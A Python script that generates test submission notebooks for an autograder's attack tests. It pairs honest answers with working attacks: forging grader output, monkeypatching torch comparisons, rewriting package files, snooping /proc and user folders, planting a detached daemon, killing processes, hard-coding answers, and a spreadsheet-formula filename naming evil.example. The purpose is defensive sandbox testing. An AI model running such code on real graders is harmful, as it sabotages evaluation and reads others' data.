"""Writes the submission files of ``tests/submissions/03/``: notebook 03's three exercises answered by honest
students and by students who attack the grader, one attack per file (issue 16). They are notebooks named
``*.submission``, never ``*.ipynb``: pytest's nbval would otherwise collect them and run the attacks outside
any sandbox (one rewrites the package's files). ``tests/test_attacks.py`` copies them to a temporary folder
as ``.ipynb`` and grades them there, sandboxed; rerun this script after changing an attack:

    .venv/bin/python tests/submissions/make_attacks.py
"""

import base64
import hashlib
import json
from pathlib import Path

import nbformat
import torch
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from nclab.exercises import notebook03, run_check

HERE = Path(__file__).resolve().parent / "03"

IMPORTS = "import math\nimport torch\nfrom nclab.exercises import check"

SOLVED = {
    "energy_score": """def energy_score(logits, T=1.0):
    return T * torch.logsumexp(logits / T, dim=1)""",
    "shared_covariance": """def shared_covariance(features, labels):
    h = features.double()
    means = torch.stack([h[labels == c].mean(0) for c in labels.unique()])
    centred = h - means[torch.searchsorted(labels.unique(), labels)]
    return centred.T @ centred / len(h)""",
    "fpr_at_95_tpr": """def fpr_at_95_tpr(id_scores, ood_scores):
    tau = id_scores.sort(descending=True).values[math.ceil(0.95 * len(id_scores)) - 1]
    return (ood_scores >= tau).double().mean().item()""",
}
UNTOUCHED = {
    name: f"def {name}(*args, **kwargs):\n    # YOUR CODE HERE\n    raise NotImplementedError()" for name in SOLVED
}
CHECKS = {"energy_score": "03_energy", "shared_covariance": "03_covariance", "fpr_at_95_tpr": "03_fpr95"}


def answers(source: dict) -> list[str]:
    return [f'{code}\n\n\ncheck("{CHECKS[name]}", {name});' for name, code in source.items()]


# ----------------------------------------------------------------------------------------------------
# The attacks (each alone in its file, with the untouched answers unless it says otherwise)

STDOUT_REWRITE = r"""
# Attack: wrap json.dumps and replace sys.stdout, so that every tagged line the grader reads says "passed".
import json, re, sys
_dumps = json.dumps

def dumps(value, *args, **kwargs):
    if isinstance(value, dict):
        value = {k: ({**v, "passed": True} if isinstance(v, dict) else v) for k, v in value.items()}
    return _dumps(value, *args, **kwargs)

json.dumps = dumps

class Rewriter:
    def __init__(self, stream):
        self.stream = stream
    def write(self, text):
        text = text.replace('"passed": false', '"passed": true')
        text = re.sub(r'\{"raised": [^}]*\}', '{"output": 0.0, "arguments": [], "gradients": {}}', text)
        return self.stream.write(text)
    def flush(self):
        return self.stream.flush()
    def __getattr__(self, name):
        return getattr(self.stream, name)

sys.stdout = Rewriter(sys.stdout)
"""

INPUT_TRANSFORMER = r"""
# Attack: an input transformer that rewrites every cell the grader adds (nonce included) into one that
# prints a forged result: every check passed, or, for a call, the first argument back as the output.
import base64, json, re

def forge(lines):
    source = "".join(lines)
    tag = re.search(r"nclab-grade-result [0-9a-f]{32}", source)
    if not tag:
        return lines
    fake = {q: {"passed": True, "message": "forged"} for q in ["03_energy", "03_covariance", "03_fpr95"]}
    request = re.search(r"'([A-Za-z0-9+/=]{20,})'\)\s*$", source)
    if request:
        calls = json.loads(base64.b64decode(request.group(1)))["items"][0][1]["items"]
        fake = {"replies": [{"output": call["items"][0], "arguments": call["items"], "gradients": {}}
                            for call in calls]}
    elif "describe" in source:
        fake = {name: {"kind": "object", "type": "function"}
                for name in ["energy_score", "shared_covariance", "fpr_at_95_tpr"]}
    return [f"print({tag.group(0) + ' ' + json.dumps(fake)!r})\n"]

get_ipython().input_transformers_post.append(forge)
"""

PATCH_TORCH = r"""
# Attack: every comparison torch can make says "equal".
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
import math
math.isclose = lambda *args, **kwargs: True
"""

TENSOR_SUBCLASS = r'''
# Attack: answers return a torch.Tensor subclass that says True to allclose/equal and to ==.
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.equal):
            return True
        if func in (torch.isclose, torch.Tensor.__eq__):
            return torch.ones(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

def energy_score(logits, T=1.0):
    return torch.zeros(len(logits)).as_subclass(Agreeable)

def shared_covariance(features, labels):
    return torch.zeros(features.shape[1], features.shape[1], dtype=torch.float64).as_subclass(Agreeable)

class Equal:
    """Not a tensor at all: equal to everything, a float of 0."""
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.0

def fpr_at_95_tpr(id_scores, ood_scores):
    return Equal()
'''

REWRITE_PACKAGE = r"""
# Attack: rewrite the grader's check code on disk (the package and anything named like it), so that the
# grader, this student's later cells and the next students all load checks that pass everything.
import pathlib, nclab
package = pathlib.Path(nclab.__file__).parent
written = []
for path in [*package.rglob("*.py")]:
    try:
        text = path.read_text()
        if "def check_" in text or "def run_check" in text:
            path.write_text(text.replace("def check_", "def _original_check_") + "\n\ndef check_energy(a):\n"
                            "    return True, 'hacked'\ncheck_covariance = check_fpr95 = check_energy\n")
            written.append(path.name)
    except OSError as error:
        print("could not write", path.name, type(error).__name__)
print("rewrote", written)
"""

REMOTE_HANDS = r"""
# Attack: read the grader's expected values or other students' files from wherever they might be: the
# grader's process in /proc, the folders around the working directory, the course's notebooks.
import os
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            found.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()[:200])
        except OSError:
            pass
print("processes:", found)
seen = []
for top in {os.getcwd(), "/tmp", "/work", "/root", "/home"}:
    for folder, _, files in os.walk(top):
        seen += [os.path.join(folder, f) for f in files if f.endswith((".ipynb", ".csv", ".partial"))]
        if len(seen) > 200:
            break
print("files:", seen[:50])
"""


DAEMON = r"""
# Attack: a process in a session of its own that outlives the kernel: a few seconds later it looks for
# the grader's command line in /proc, rewrites its --out CSV and adds a submission of its own.
import subprocess, sys
later = r'''
import os, pathlib, time
time.sleep(3)
for pid in os.listdir("/proc"):
    try:
        words = open(f"/proc/{pid}/cmdline", "rb").read().split(bytes(1))
    except OSError:
        continue
    if b"grade" in words and b"--out" in words:
        pathlib.Path(words[words.index(b"--out") + 1].decode()).write_text("student,total\nme,999\n")
        folder = pathlib.Path(words[words.index(b"grade") + 1].decode())
        (folder / "zz_pwned.ipynb").write_text("{}")
'''
subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
"""

KILL_GRADER = r"""
# Attack: kill the grader (the kernel's parent) and process 1, then answer honestly.
import os, signal
for pid in {os.getppid(), 1}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as error:
        print("could not kill", pid, type(error).__name__)
"""

KILL_AT_GRADING = r"""
# Attack: kill the kernel as soon as the grader's first cell arrives (an input transformer that sees it),
# hoping to stop the grading of the whole class.
import os

def die(lines):
    if "_nclab_wire_" in "".join(lines):
        os._exit(1)
    return lines

get_ipython().input_transformers_post.append(die)
"""

FLOOD = r"""
# Not an attack: a student whose training loop printed 30 MB, a megabyte a step, before answering.
import sys, time
for step in range(30):
    print("loss " + "x" * 1_000_000)
    sys.stdout.flush()
    time.sleep(0.05)
"""

CHATTY = {name: code.replace("):\n", '):\n    print("computing…", end="")\n', 1) for name, code in SOLVED.items()}


def hard_coded_answers() -> dict[str, str]:
    """Answers that look up the right outputs recorded for the notebook's own (seeded) inputs, and return
    zeros for any other input: they pass the notebook's check, not the grader's secret cases."""
    tables: dict[str, dict[str, list]] = {}
    references = {"energy_score": None, "shared_covariance": None, "fpr_at_95_tpr": None}
    namespace: dict = {"torch": torch, "math": __import__("math")}
    for name, code in SOLVED.items():
        exec(code, namespace)
        references[name] = namespace[name]

    def recorder(name):
        def record(*args):
            output = references[name](*args)
            key = hashlib.sha256(
                b"".join(a.numpy().tobytes() if isinstance(a, torch.Tensor) else repr(a).encode() for a in args)
            )
            value = output.tolist() if isinstance(output, torch.Tensor) else output
            tables.setdefault(name, {})[key.hexdigest()] = value
            return output

        return record

    for name, question in CHECKS.items():
        assert run_check(question, recorder(name)).passed
    table = base64.b64encode(json.dumps(tables).encode()).decode()
    lookup = f'''# Attack: outputs recorded for the notebook's own inputs, zeros for any other.
import base64, hashlib, json
TABLE = json.loads(base64.b64decode("{table}"))

def _lookup(name, args, fallback):
    key = hashlib.sha256(b"".join(a.numpy().tobytes() if isinstance(a, torch.Tensor) else repr(a).encode()
                                  for a in args)).hexdigest()
    value = TABLE[name].get(key)
    return fallback if value is None else value
'''
    return {
        "energy_score": lookup
        + """
def energy_score(logits, T=1.0):
    args = (logits, T) if T != 1.0 else (logits,)
    return torch.tensor(_lookup("energy_score", args, [0.0] * len(logits)))""",
        "shared_covariance": """def shared_covariance(features, labels):
    p = features.shape[1]
    return torch.tensor(_lookup("shared_covariance", (features, labels), [[0.0] * p] * p), dtype=torch.float64)""",
        "fpr_at_95_tpr": """def fpr_at_95_tpr(id_scores, ood_scores):
    return _lookup("fpr_at_95_tpr", (id_scores, ood_scores), 0.0)""",
    }


def notebook(title: str, cells: list[str]) -> nbformat.NotebookNode:
    made = new_notebook(cells=[new_markdown_cell(title), new_code_cell(IMPORTS), *map(new_code_cell, cells)])
    for index, cell in enumerate(made.cells):
        cell.id = f"cell-{index}"  # the same files at every run of this script
    return made


def main() -> None:
    HERE.mkdir(exist_ok=True)
    assert set(SOLVED) == {exercise.answer for exercise in notebook03.EXERCISES.values()}
    files = {
        # honest students, before and after each attacker in the sorted order
        "a_solved": notebook("An honest student: all three answered.", answers(SOLVED)),
        "b_untouched": notebook("An honest student who answered nothing.", answers(UNTOUCHED)),
        "c_energy_only": notebook(
            "An honest student: only the energy answered.",
            answers({**UNTOUCHED, "energy_score": SOLVED["energy_score"]}),
        ),
        "attack_hard_coded": notebook("Hard-coded answers for the notebook's inputs.", answers(hard_coded_answers())),
        "attack_input_transformer": notebook("An input transformer.", [INPUT_TRANSFORMER, *answers(UNTOUCHED)]),
        "attack_patch_torch": notebook("Patched torch comparisons.", [PATCH_TORCH, *answers(UNTOUCHED)]),
        "attack_remote_hands": notebook("Looking for the grader's data.", [REMOTE_HANDS, *answers(UNTOUCHED)]),
        "attack_rewrite_package": notebook("Rewritten package files.", [REWRITE_PACKAGE, *answers(UNTOUCHED)]),
        "attack_stdout_rewrite": notebook("Rewritten json.dumps and stdout.", [STDOUT_REWRITE, *answers(UNTOUCHED)]),
        "attack_tensor_subclass": notebook(
            "Outputs that compare equal to anything, and the energy answered honestly after them.",
            [TENSOR_SUBCLASS, 'check("03_energy", energy_score);', *answers({"energy_score": SOLVED["energy_score"]})],
        ),
        "c_flood_then_solved": notebook("An honest student who printed 30 MB first.", [FLOOD, *answers(SOLVED)]),
        "c_chatty_solved": notebook("An honest student whose answers print without a newline.", answers(CHATTY)),
        "attack_daemon": notebook("A daemon that outlives the kernel.", [DAEMON, *answers(UNTOUCHED)]),
        "attack_kill_grader": notebook("Killing the grader, then honest answers.", [KILL_GRADER, *answers(SOLVED)]),
        '=HYPERLINK("evil.example")': notebook("A student id that is a spreadsheet formula.", answers(SOLVED)),
        "attack_kill_at_grading": notebook(
            "The kernel killed at the grading step.", [KILL_AT_GRADING, *answers(SOLVED)]
        ),
        "z_solved_after": notebook("An honest student graded after the attackers.", answers(SOLVED)),
        "z_untouched_after": notebook("An honest student graded after the attackers.", answers(UNTOUCHED)),
    }
    for old in HERE.glob("*.submission"):
        old.unlink()
    for name, nb in files.items():  # not *.ipynb: nbval (make test) would run the attacks unsandboxed
        nbformat.write(nb, HERE / f"{name}.submission")
    print(f"wrote {len(files)} submissions to {HERE}")


if __name__ == "__main__":
    main()
